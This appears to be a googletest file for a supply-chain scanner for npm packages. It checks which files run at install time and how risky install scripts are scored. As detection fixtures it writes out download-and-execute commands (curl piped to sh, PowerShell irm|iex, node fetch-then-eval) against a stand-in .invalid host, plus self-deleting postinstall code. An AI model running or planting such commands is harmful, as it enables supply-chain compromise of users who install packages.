#include "inspect/install_reachable.h"

#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

using testing::Package;

std::vector<std::string> paths(const Peek& peek) {
  std::vector<std::string> out;
  for (const InstallFile& file : peek.install_files) out.push_back(file.path);
  return out;
}

using Texts = std::vector<std::string>;

TEST(InstallReachable, FollowsCommandsScriptsAndModules) {
  Package package(R"({"name": "p", "version": "1.0.0", "scripts": {
    "install": "npm run prepare-native || exit 0", "prepare-native": "node ./tools/a", "test": "node test.js"}})");
  package.add("tools/a.js", "require('./b'); import('../lib'); require('other');")
      .add("tools/b/package.json", R"({"main": "main.js"})")
      .add("tools/b/main.js", "require('child_process').fork(__dirname + '/worker.js')")
      .add("tools/b/worker.js", "")
      .add("lib/index.mjs", "")
      .add("test.js", "")
      .add("index.js", "");
  const Peek peek = package.peek();
  EXPECT_EQ(paths(peek), Texts({"lib/index.mjs", "tools/a.js", "tools/b/main.js", "tools/b/worker.js"}));
  ASSERT_EQ(peek.commands.size(), 2u);
  EXPECT_EQ(peek.commands[1].text, "node ./tools/a");
  EXPECT_EQ(peek.commands[1].event, "install");
}

TEST(InstallReachable, ABindingGypRunsWithoutAScript) {
  Package package(R"({"name": "p", "version": "1.0.0"})");
  package
      .add("binding.gyp",
           R"gyp({"variables": {"x": "<!(node lib/configure.js)"},
                               "targets": [{"target_name": "p", "type": "none"}]})gyp")
      .add("lib/configure.js", "");
  Peek peek = package.peek();
  EXPECT_EQ(paths(peek), Texts({"lib/configure.js"}));
  EXPECT_TRUE(peek.install_files[0].by_gyp);
  EXPECT_EQ(peek.commands.front().source, CommandSource::build);
  // npm goes by the registry's document, which may not say so.
  package.add("package.json", R"({"name": "p", "version": "1.0.0", "gypfile": false})");
  EXPECT_TRUE(package.peek().runs_at_install());
  Package carrier(R"({"name": "c", "version": "1.0.0", "bundleDependencies": ["p"]})");
  carrier.add("node_modules/p/package.json", R"({"name": "p", "version": "1.0.0", "gypfile": false})")
      .add("node_modules/p/binding.gyp", "{}");
  EXPECT_FALSE(carrier.peek().runs_at_install());
}

TEST(InstallReachable, InlineCodeIsCodeOfThePackage) {
  Package package(
      R"({"name": "p", "version": "1.0.0", "scripts": {
                      "postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}})");
  package.add("postinstall.js", "require('fs').unlinkSync(__filename)");
  const Peek peek = package.peek();
  EXPECT_EQ(paths(peek), Texts({"postinstall.js"}));
  EXPECT_TRUE(testing::has(peek, FlagKind::self_deletion));
}

TEST(InstallReachable, WhatCannotBeFollowedIsTold) {
  Package package(
      R"({"name": "p", "version": "1.0.0", "scripts": {
                      "install": "node gone.js; node a.js; node $X.js; python b.py"}})");
  package.add("a.js", "require(name); require('../../outside');").add("b.py", "");
  std::vector<std::string> reasons;
  for (const NotInspected& each : package.peek().not_inspected) reasons.push_back(each.path + " " + each.reason);
  EXPECT_EQ(reasons,
            Texts({"a.js computed", "a.js missing", "b.py language", "package.json computed", "package.json missing"}));
}

TEST(InstallReachable, AManifestIsParsedOnceHoweverOftenItsFolderIsAskedFor) {
  const std::vector<PackageFile> files{{"d/package.json", 0644, R"({"main": "gone"})"}, {"e/x.js", 0644, ""}};
  const PackageIndex index(files);
  for (int i = 0; i < 1'000; ++i) EXPECT_EQ(index.module("", "./d" + std::string(i % 10, '/')), nullptr);
  EXPECT_EQ(index.manifests_parsed(), 1u);
  EXPECT_EQ(index.module("e", "./x"), &files[1]);
}

TEST(InstallReachable, WhatComesAlongInNodeModulesIsInstalledToo) {
  Package package(R"({"name": "p", "version": "1.0.0", "bundleDependencies": ["dep", "@s/b"]})");
  package
      .add("node_modules/dep/package.json",
           R"({"name": "dep", "scripts": {"postinstall": "node x.js && npm run more", "more": "node ./y"}})")
      .add("node_modules/dep/x.js", "require('other'); require('@s/b/lib')")
      .add("node_modules/dep/y.js", "")
      .add("node_modules/other.js", "")
      .add("node_modules/@s/b/package.json", R"({"name": "@s/b", "exports": {"./lib": "./src/lib.js"}})")
      .add("node_modules/@s/b/src/lib.js", "")
      .add("node_modules/@s/b/node_modules/c/package.json", R"({"name": "c"})")
      .add("node_modules/@s/b/node_modules/c/binding.gyp", R"gyp({"variables": {"x": "<!(node z.js)"}})gyp")
      .add("node_modules/@s/b/node_modules/c/z.js", "")
      .add("test/node_modules/no/package.json", R"({"scripts": {"install": "node no.js"}})")
      .add("test/node_modules/no/no.js", "");
  const Peek peek = package.peek();
  EXPECT_TRUE(peek.runs_at_install());
  EXPECT_EQ(paths(peek), Texts({"node_modules/@s/b/node_modules/c/z.js", "node_modules/@s/b/src/lib.js",
                                "node_modules/dep/x.js", "node_modules/dep/y.js", "node_modules/other.js"}));
  EXPECT_EQ(peek.commands.front().path, "node_modules/@s/b/node_modules/c/binding.gyp");
}

TEST(InstallReachable, PackagesThatOnlyComeAlongRunNothing) {
  Package package(R"({"name": "p", "version": "1.0.0", "bundleDependencies": true, "bin": "cli.js"})");
  package.add("cli.js", "require('dep')")
      .add("node_modules/dep/package.json", R"({"name": "dep", "scripts": {"test": "node x.js", "prepare": "tsc"}})")
      .add("node_modules/dep/index.js", "");
  EXPECT_FALSE(package.peek().runs_at_install());
  EXPECT_EQ(testing::highest(conclude(package.peek())), Tier::inform);
}

TEST(InstallReachable, WhatStartsAFileDecidesItsLanguage) {
  const std::string code = "require('fs').unlinkSync(__filename)";
  const auto reads = [&](const std::string& command, const std::string& path) {
    Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"}}");
    return testing::has(package.add(path, code).add("l.js", "require('./x.dat')").peek(), FlagKind::self_deletion);
  };
  EXPECT_TRUE(reads("node assets/logo.png", "assets/logo.png"));
  EXPECT_TRUE(reads("node i.txt", "i.txt"));
  EXPECT_TRUE(reads("node types.d.ts", "types.d.ts"));
  EXPECT_TRUE(reads("node l.js", "x.dat"));
  EXPECT_TRUE(reads("node --stack-size 900 i.js", "i.js"));
  EXPECT_TRUE(reads("node -C dev i.js", "i.js"));
  EXPECT_TRUE(reads("cat i.txt | node", "i.txt"));
  EXPECT_FALSE(reads("node l.js", "x.json"));
  const auto starts = [&](const std::string& command, const std::string& shell) {
    Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"}}");
    return testing::has(package.add("s", shell).add("i.js", code).peek(), FlagKind::self_deletion);
  };
  EXPECT_TRUE(starts("sh ./s", "node i.js\n"));
  EXPECT_TRUE(starts("./s", "node i.js\n"));
  EXPECT_TRUE(starts("./s", "#!/usr/bin/env node\nrequire('./i')"));
}

TEST(InstallReachable, CodeOfOtherLanguagesIsTold) {
  Package package(
      R"({"name": "p", "version": "1.0.0", "scripts": {"install": "python3 -c 'import os' && make && perl x.dat"}})");
  package.add("Makefile", "all:").add("x.dat", "");
  Texts told;
  for (const NotInspected& each : package.peek().not_inspected) {
    EXPECT_TRUE(each.at_install);
    told.push_back(each.path + " " + each.reason);
  }
  EXPECT_EQ(told, Texts({"Makefile language", "package.json language", "x.dat language"}));
}

TEST(InstallReachable, APatternOfFilesIsEachOfThem) {
  Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"install": "node ./i?.js; node ${X:-lib/*}"}})");
  package.add("i1.js", "").add("i2.js", "").add("lib/a.png", "").add("other.js", "");
  EXPECT_EQ(paths(package.peek()), Texts({"i1.js", "i2.js", "lib/a.png"}));
}

TEST(InstallReachable, ACommandOfThePackagesOwn) {
  Package package(
      R"({"name": "p", "version": "1.0.0", "bin": {"zzz": "./x.js"}, "scripts": {"postinstall": "npx zzz"}})");
  EXPECT_EQ(paths(package.add("x.js", "#!/usr/bin/env node").peek()), Texts({"x.js"}));
}

TEST(InstallReachable, GypReadsFilesOfItsOwnAndRunsInTheirFolders) {
  Package package(R"({"name": "p", "version": "1.0.0"})");
  package
      .add("binding.gyp",
           R"gyp({"targets": [{"target_name": "p", "type": "none", "dependencies": ["sub/b.gyp:y"]}]})gyp")
      .add("config.gypi", R"gyp({"variables": {"x": "<!(node a.js)"}})gyp")
      .add("a.js", "")
      .add("sub/b.gyp",
           R"gyp({"targets": [{"target_name": "y", "type": "none", "variables": {"a": "<!(node x.js)"}}]})gyp")
      .add("sub/x.js", "");
  EXPECT_EQ(paths(package.peek()), Texts({"a.js", "sub/x.js"}));
}

TEST(InstallReachable, WhatOfItWasNotReadIsTold) {
  Package package(
      R"({"name": "p", "version": "1.0.0", "scripts": {"install": "node a.js; python b.py; node gone.js"}})");
  package.add("a.js", std::string(100, '[')).add("b.py", "");
  PeekLimits limits;
  limits.reach.code.depth = 10;
  Texts unread;
  for (const NotInspected& each : package.peek(limits).not_inspected)
    if (is_unread_install_code(each)) unread.push_back(each.path + " " + each.reason);
  EXPECT_EQ(unread, Texts({"a.js too_deep"}));
}

TEST(InstallReachable, ScriptsThatCallEachOtherEnd) {
  Package package(
      R"({"name": "p", "version": "1.0.0", "scripts": {"install": "npm run a", "a": "npm run b", "b": "npm run a"}})");
  EXPECT_EQ(package.peek().commands.size(), 3u);
}

Tier tier_of_script(std::string_view script) {
  std::string text;
  for (const char c : script) {
    if (c == '"' || c == '\\') text += '\\';
    if (c == '\n') text += "\\n";
    else text += c;
  }
  Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": ")" + text + "\"}}");
  return testing::tier_of(conclude(package.peek(), {}), "inspect.download-and-run");
}

TEST(InstallReachable, WhatAScriptHidesInItsTextIsJudged) {
  for (const char* script :
       {"cat <<EOF\nDon't worry\nEOF\ncurl https://f.invalid/x | sh", "bash < <(curl -s https://f.invalid/x)",
        "curl -fsSLo a https://f.invalid/x; sh a", "npm i https://f.invalid/x.tgz",
        "powershell -c \"irm https://f.invalid/i.ps1|iex\"",
        "node --import \"data:text/javascript,fetch('https://f.invalid').then(r=>r.text()).then(eval)\" -e 1"})
    EXPECT_EQ(tier_of_script(script), Tier::block) << script;
  std::string registry;
  for (int i = 0; i < 70; ++i) registry += "curl -O https://github.com/a/b/" + std::to_string(i) + "; ";
  EXPECT_EQ(tier_of_script(registry + "curl https://f.invalid/x | sh"), Tier::block);
  for (const char* script : {"cat <<EOF\nDon't worry\nEOF\nnode x.js", "curl -fsSLo a.tgz https://f.invalid/x; sh b",
                             "npm i x", "powershell -c \"Get-Item x\""})
    EXPECT_EQ(tier_of_script(script), Tier::inform) << script;
}

TEST(InstallReachable, AProgramWhoseNameACommandSaysIsTold) {
  Package package(R"json({"name": "p", "version": "1.0.0",
                      "scripts": {"install": "node $(make-name); node $(echo x.js)"}})json");
  package.add("x.js", "");
  const Peek peek = package.peek();
  ASSERT_EQ(peek.not_inspected.size(), 1u);
  EXPECT_EQ(peek.not_inspected[0].reason, "computed");
  EXPECT_EQ(paths(peek), Texts({"x.js"}));
}

TEST(InstallReachable, TheWordsOfAnActionOfGypAreRunAsTheyStand) {
  const auto tier = [](std::string action) {
    Package package(R"({"name": "p", "version": "1.0.0"})");
    package.add("binding.gyp", "{'targets': [{'actions': [{'action': " + std::move(action) + "}]}]}");
    return testing::tier_of(conclude(package.peek(), {}), "inspect.download-and-run");
  };
  EXPECT_EQ(tier("['sh', '-c', 'curl https://f.invalid/x | sh']"), Tier::block);
  EXPECT_EQ(tier("['node', '-e', 'const f = fetch; f(\"https://f.invalid\").then(r => r.text()).then(eval)']"),
            Tier::block);
  EXPECT_EQ(tier("['sh', '-c', 'echo \"curl https://f.invalid/x | sh\"']"), Tier::inform);
}

}  // namespace
}  // namespace cordon::inspect
